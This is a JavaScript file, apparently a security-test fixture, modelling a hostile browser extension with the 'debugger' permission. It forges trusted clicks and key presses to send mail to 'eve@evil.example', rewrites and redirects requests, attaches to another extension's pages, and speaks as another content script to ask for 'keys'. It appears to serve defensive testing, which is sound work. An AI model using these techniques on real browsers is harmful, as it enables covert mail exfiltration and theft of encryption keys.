// Another extension with the permission `debugger`, and what it may try in a tab that it debugs. Each takes the mail page's
// address, that of *send* with the subject in it, and a whole message with that subject.

const send = (tabId, method, params = {}) => chrome.debugger.sendCommand({ tabId }, method, params);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

async function attached(url) {
  const { id } = await chrome.tabs.create({ url });
  while ((await chrome.tabs.get(id)).status !== "complete") await pause(20);
  await chrome.debugger.attach({ tabId: id }, "1.3");
  return id;
}

async function run(tab, expression) {
  const { result, exceptionDetails } = await send(tab, "Runtime.evaluate", { expression, awaitPromise: true, returnByValue: true });
  if (exceptionDetails) throw new Error(exceptionDetails.exception.description);
  return result.value;
}

const written = (subject) => `
  const form = document.querySelector("form");
  form.elements.to.value = "eve@evil.example";
  form.elements.subject.value = ${JSON.stringify(subject)};`;

/** Clicks as a person does: the browser tells it apart from no other. */
async function click(tab, selector) {
  const [x, y] = await run(tab, `(() => { const { x, y, width, height } = document.querySelector(${JSON.stringify(selector)}).getBoundingClientRect(); return [x + width / 2, y + height / 2]; })()`);
  for (const type of ["mousePressed", "mouseReleased"]) await send(tab, "Input.dispatchMouseEvent", { type, x, y, button: "left", clickCount: 1 });
}

/** Has every request of a tab to `/elsewhere` answered by `answer`. */
async function paused(tab, answer) {
  chrome.debugger.onEvent.addListener((source, method, { requestId } = {}) => {
    if (source.tabId === tab && method === "Fetch.requestPaused") void answer(requestId).catch(() => undefined);
  });
  await send(tab, "Fetch.enable", { patterns: [{ urlPattern: "*elsewhere*" }] });
}

const posts = (url) => `void fetch(${JSON.stringify(url)}, { method: "POST" }).catch(() => undefined)`;

globalThis.ACTS = {
  "a trusted click": async ({ mail, subject }) => {
    const tab = await attached(mail);
    await run(tab, written(subject));
    await click(tab, "button");
  },
  "a trusted key": async ({ mail, subject }) => {
    const tab = await attached(mail);
    await run(tab, `${written(subject)} form.elements.subject.focus();`);
    for (const type of ["keyDown", "keyUp"]) await send(tab, "Input.dispatchKeyEvent", { type, key: "Enter", code: "Enter", text: "\r", windowsVirtualKeyCode: 13 });
  },
  "a program in the page": async ({ mail, url }) => run(await attached(mail), posts(url)),
  "a program in a world of its own": async ({ mail, url }) => {
    const tab = await attached(mail);
    const { frameTree } = await send(tab, "Page.getFrameTree");
    const { executionContextId } = await send(tab, "Page.createIsolatedWorld", { frameId: frameTree.frame.id, grantUniveralAccess: true });
    await send(tab, "Runtime.evaluate", { contextId: executionContextId, expression: posts(url) });
  },
  "a navigation": async ({ mail, url }) => send(await attached(mail), "Page.navigate", { url }),
  "a new target": async ({ mail, url }) => send(await attached(mail), "Target.createTarget", { url }),
  "a resource that it loads": async ({ mail, url }) => {
    const tab = await attached(mail);
    const { frameTree } = await send(tab, "Page.getFrameTree");
    await send(tab, "Network.enable");
    await send(tab, "Network.loadNetworkResource", { frameId: frameTree.frame.id, url, options: { disableCache: true, includeCredentials: true } });
  },
  "a request that it rewrites": async ({ mail, url, body }) => {
    const tab = await attached(mail);
    await paused(tab, (requestId) => send(tab, "Fetch.continueRequest", { requestId, url, postData: btoa(body) }));
    await run(tab, posts(`${mail}elsewhere`));
  },
  "a navigation that it rewrites": async ({ mail, url }) => {
    const tab = await attached(mail);
    await paused(tab, (requestId) => send(tab, "Fetch.continueRequest", { requestId, url }));
    await send(tab, "Page.navigate", { url: `${mail}elsewhere` });
  },
  "a redirect that it answers with": async ({ mail, url }) => {
    const tab = await attached(mail);
    await paused(tab, (requestId) => send(tab, "Fetch.fulfillRequest", { requestId, responseCode: 307, responseHeaders: [{ name: "location", value: url }] }));
    await run(tab, posts(`${mail}elsewhere`));
  },
};

/** Tries to reach the windows and the worker of another extension, and gives what it was told. */
globalThis.reach = async (other) => {
  const at = `chrome-extension://${other}/`;
  const targets = (await chrome.debugger.getTargets()).filter(({ url }) => url.startsWith(at));
  const dialog = targets.find(({ url }) => url.includes("dialog.html"));
  const tries = Object.fromEntries(targets.map(({ id, url }) => [url.slice(at.length).split("#")[0], () => chrome.debugger.attach({ targetId: id }, "1.3")]));
  Object.assign(tries, {
    "the dialog, as a tab": () => chrome.debugger.attach({ tabId: dialog.tabId }, "1.3"),
    "a tab of its own that goes there": async () => send(await attached("about:blank"), "Page.navigate", { url: dialog.url }),
    "a tab of its own that is led there": async () => {
      const tab = await attached("about:blank");
      await chrome.tabs.update(tab, { url: dialog.url });
      // It is detached when the page is there.
      for (let waited = 0; waited < 3000; waited += 50) {
        await run(tab, `if (location.href.startsWith(${JSON.stringify(at)})) "reached"`);
        await pause(50);
      }
    },
    "a target behind a tab": async () => send(await attached("about:blank"), "Target.attachToTarget", { targetId: dialog.id, flatten: true }),
    "a message": () => chrome.runtime.sendMessage(other, { type: "stop" }),
  });
  const said = {};
  for (const [name, act] of Object.entries(tries)) said[name] = await act().then(() => "reached", ({ message }) => message);
  return said;
};

/** Offers an e-mail from the extension's own content script, whose world a debugger sees. */
globalThis.offerAs = async (name, mail, message) => {
  const tab = await attached(mail);
  const worlds = [];
  chrome.debugger.onEvent.addListener((_, method, { context } = {}) => method === "Runtime.executionContextCreated" && worlds.push(context));
  await send(tab, "Runtime.enable");
  while (!worlds.some((world) => world.name === name)) await pause(20);
  const contextId = worlds.find((world) => world.name === name).id;
  const ask = (asked) => `chrome.runtime.sendMessage(${JSON.stringify(asked)})`;
  const expression = `Promise.all([${ask({ type: "keys" })}, ${ask({ type: "offer", invited: true, message })}])`;
  return (await send(tab, "Runtime.evaluate", { contextId, expression, awaitPromise: true, returnByValue: true })).result.value;
};
